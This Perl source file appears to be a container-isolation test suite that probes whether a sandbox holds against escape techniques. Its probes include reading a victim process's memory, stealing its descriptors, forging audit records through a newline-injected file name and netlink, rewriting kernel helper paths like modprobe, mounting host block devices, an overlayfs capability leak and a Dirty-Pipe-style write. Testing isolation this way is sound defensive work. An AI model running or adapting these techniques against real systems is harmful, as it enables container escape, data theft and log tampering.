# SPDX-License-Identifier: Apache-2.0

# Further attempts: on families of sockets, on mounts, and on files of the kernel.

# Created and closed.
sub socket_of {
    my ($family, $type, $protocol) = @_;
    socket(my $socket, $family, $type, $protocol) or failed_call('socket');
    return 'opened a socket of this family';
}

sub write_text {
    my ($path, $text) = @_;
    sysopen(my $file, $path, O_WRONLY) or failed_call('open');
    defined(syswrite($file, $text)) or failed_call('write');
}

# A process of its own in the victim's process namespace, which it enters by a file in the victim's /proc.
sub within_its_namespace {
    my ($id, $work) = @_;
    call('setns', fileno_of("$processes/$id/ns/pid"), 0x20000000);
    pipe(my $reader, my $writer) or failed_call('pipe');
    my $child = fork // failed_call('fork');
    if ($child == 0) {
        my $result = eval { $work->() };
        syswrite($writer, defined $result ? "done\t$result" : ref $@ ? "$@->{errno}\t$@->{call}" : "0\t$@");
        POSIX::_exit(0);
    }
    close $writer;
    local $/;
    my ($number, $text) = split /\t/, <$reader>, 2;
    waitpid($child, 0);
    return $text if $number eq 'done';
    die { errno => $number + 0, call => $text };
}

# Tries each and gives what came through. Where nothing did, the first denial is the attempt's, or else what is missing.
sub any_of {
    my ($work, @objects) = @_;
    my ($denial, @done);
    for my $object (@objects) {
        my $result = eval { $work->($object) };
        my $error = $@;
        if (defined $result) { push @done, $result; }
        elsif ($error && !ref $error) { die $error; }
        elsif (ref $error && (!$denial || $denial->{errno} == POSIX::ENOENT())) { $denial = $error; }
    }
    return join ', ', @done if @done;
    die $denial || { errno => POSIX::ENOENT(), call => 'open' };
}

sub mount_points {
    open(my $table, '<', '/proc/self/mountinfo') or failed_call('open');
    return map { (split / /)[4] } <$table>;
}

# Bytes of a file, or names in a folder.
sub size_of {
    my ($path) = @_;
    return length text_of($path) if !-d $path;
    opendir(my $folder, $path) or failed_call('opendir');
    return scalar grep { !/^\.\.?$/ } readdir $folder;
}

# A user namespace and a mount namespace of its own, in which it is root.
sub nest {
    call('unshare', 0x10020000);
    write_text('/proc/self/setgroups', 'deny');
    write_text('/proc/self/uid_map', '0 0 1');
    write_text('/proc/self/gid_map', '0 0 1');
}

# Sends a message to the kernel by netlink, and gives the kernel's answer: 0 when the kernel accepted it.
sub netlink_answer {
    my ($protocol, $type, $flags, $text) = @_;
    socket(my $socket, 16, SOCK_RAW, $protocol) or failed_call('socket');
    my $message = pack('LSSLL', 16 + length($text), $type, 5 | $flags, 1, 0) . $text;
    my $kernel = pack('SSLL', 16, 0, 0, 0);
    defined(send($socket, $message, 0, $kernel)) or failed_call('send');
    setsockopt($socket, SOL_SOCKET, SO_RCVTIMEO, pack('l!l!', 2, 0));
    my $answer = '';
    defined(recv($socket, $answer, 4096, 0)) or failed_call('recv');
    return -unpack('l', substr($answer, 16, 4));
}

# A denial of its own, about a file whose name continues like a record of the victim's.
sub denial_with_forged_name {
    my ($record) = @_;
    my $path = '/dev/' . "x\n$record";
    my ($name, $label) = ('security.selinux', "system_u:object_r:bulkhead_file_t:$level\0");
    sysopen(my $file, $path, O_WRONLY | O_CREAT, 0600) or return;
    close $file;
    $0 = 'drill-forge';
    syscall($number->{setxattr}, $path, $name, $label, length $label, 0) if defined $number->{setxattr};
    unlink $path;
    $0 = 'audit-forge';
}

%attempt = (
    %attempt,
    'socket-crypto' => sub { socket_of(38, 5, 0) },
    'socket-rxrpc' => sub { socket_of(33, SOCK_DGRAM, AF_INET) },
    'socket-pfkey' => sub { socket_of(15, SOCK_RAW, 2) },
    'socket-xfrm' => sub { socket_of(16, SOCK_RAW, 6) },

    'process-vm' => sub {
        any_of_victim(sub {
            my ($id) = @_;
            within_its_namespace($id, sub {
                my ($start) = text_of("/proc/$id/maps") =~ /^([0-9a-f]+)-.*\[stack\]/m or return 'it has no stack';
                my $buffer = "\0" x 4096;
                my $here = pack('PQ', $buffer, 4096);
                my $there = pack('QQ', hex $start, 4096);
                call('process_vm_readv', $id, $here, 1, $there, 1, 0);
                "read its memory: $buffer";
            });
        });
    },
    'process-getfd' => sub {
        any_of_victim(sub {
            my ($id) = @_;
            within_its_namespace($id, sub {
                call('pidfd_getfd', call('pidfd_open', $id, 0), 0, 0);
                'took one of its descriptors';
            });
        });
    },

    # Read by its number alone: keys belong to the kernel, and are in no namespace.
    'ipc-keyring' => sub {
        my $text = "\0" x 256;
        my $length = syscall($number->{keyctl} // -1, 11, $key + 0, $text, 256);
        $length >= 0 or failed_call('keyctl');
        substr($text, 0, $length);
    },

    'selinux-mount' => sub {
        mounted('tmpfs', "context=\"system_u:object_r:bulkhead_file_t:$level\"", sub {
            "mounted a file system with the victim's label";
        });
    },
    'audit-forge' => sub {
        my $record = sprintf(
            'type=AVC msg=audit(%d.000:9%05d): avc:  denied  { read } for  pid=1 comm="audit-forge" '
                . 'scontext=system_u:system_r:bulkhead_t:%s tcontext=system_u:object_r:etc_t:s0 '
                . 'tclass=file permissive=0',
            time, $$, $level,
        );
        denial_with_forged_name(substr($record, 0, 250));
        my $errno = netlink_answer(9, 1107, 0, $record);
        die { errno => $errno, call => 'audit netlink' } if $errno;
        'the kernel took a record in its name';
    },

    # What is mounted over such a file is the container's own, and shows nothing of the host.
    'kernel-load' => sub {
        my %covered = map { $_ => 1 } mount_points();
        my @paths = grep { !$covered{$_} } (
            map({ "/proc/$_" } qw(loadavg diskstats modules cmdline partitions interrupts)),
            '/sys/block', '/sys/fs/ext4',
        );
        any_of(sub { my ($path) = @_; size_of($path) ? "read $path" : undef }, @paths);
    },
    'kernel-uevent' => sub { rewrite('/sys/kernel/uevent_helper') },
    'kernel-hotplug' => sub { rewrite('/proc/sys/kernel/hotplug') },
    'kernel-modprobe' => sub { rewrite('/proc/sys/kernel/modprobe') },
    # An interpreter for files that begin with a string that no file has.
    'kernel-binfmt' => sub {
        mounted('binfmt_misc', '', sub {
            write_to("$_[0]/register", 0, ':drill-binfmt:M::drill-there-is-none::/bin/false:');
            eval { write_to("$_[0]/drill-binfmt", 0, '-1') };
            'registered it';
        });
    },
    # Known from what the kernel reports about a file system that it has, and that a container may not mount.
    'kernel-autoload' => sub { mounted($filesystem, '', sub { 'mounted it' }) },
    'mount-block' => sub {
        my ($type) = text_of('/proc/filesystems') =~ /^\t(\S+)/m
            or die { errno => POSIX::ENODEV(), call => 'search of /proc/filesystems' };
        my ($key, $source) = ('source', '/dev/vda');
        my $context = call('fsopen', $type, 0);
        call('fsconfig', $context, 1, $key, $source, 0);
        call('fsconfig', $context, 6, 0, 0, 0);
        'opened a file system of the host';
    },
    'mount-overlay' => sub {
        my $place = folder("$own-overlay");
        my $result = eval {
            nest();
            my ($tmpfs, $overlay, $none) = ('tmpfs', 'overlay', '');
            call('mount', $tmpfs, $place, $tmpfs, 0, $none);
            folder("$place/$_") for qw(lower upper work merged);
            write_to("$place/lower/file", O_CREAT, 'mine');
            my ($path, $name, $value) =
                ("$place/lower/file", 'security.capability', pack('L5', 0x02000001, 1 << 21, 0, 0, 0));
            call('setxattr', $path, $name, $value, length $value, 0);
            my ($merged, $options) =
                ("$place/merged", "lowerdir=$place/lower,upperdir=$place/upper,workdir=$place/work,userxattr");
            call('mount', $overlay, $merged, $overlay, 0, $options);
            write_to("$place/merged/file", O_APPEND, 'and more');
            my ($copy, $buffer) = ("$place/upper/file", "\0" x 64);
            syscall($number->{getxattr}, $copy, $name, $buffer, 64);
            $! + 0;
        };
        my $error = $@;
        # In this mount namespace the folder holds mounts, and could not be removed.
        my $merged = "$place/merged";
        for my $point ($merged, $place) { eval { call('umount', $point, 2) } }
        rmdir $place;
        die $error if $error;
        return 'the copy has capabilities of another user namespace' if $result == POSIX::EOVERFLOW();
        held('copy of a file', 'the copy has no capabilities beyond its own user namespace');
    },
    # One byte of a file that is open for reading goes into a pipe, and other data is written after it.
    'pipe-page' => sub {
        my $path = "$own-page";
        write_to($path, O_CREAT, 'as it was');
        my $result = eval {
            sysopen(my $file, $path, O_RDONLY) or failed_call('open');
            pipe(my $reader, my $writer) or failed_call('pipe');
            my $page = 'x' x 4096;
            for (1 .. 16) { syswrite($writer, $page); sysread($reader, my $drained, 4096); }
            call('splice', fileno $file, 0, fileno $writer, 0, 1, 0);
            syswrite($writer, 'was changed');
            text_of($path);
        };
        my $error = $@;
        unlink $path;
        die $error if $error;
        return 'changed a file that it had open for reading only' if $result ne 'as it was';
        held('write to a pipe', 'the page of the file is as it was');
    },
);
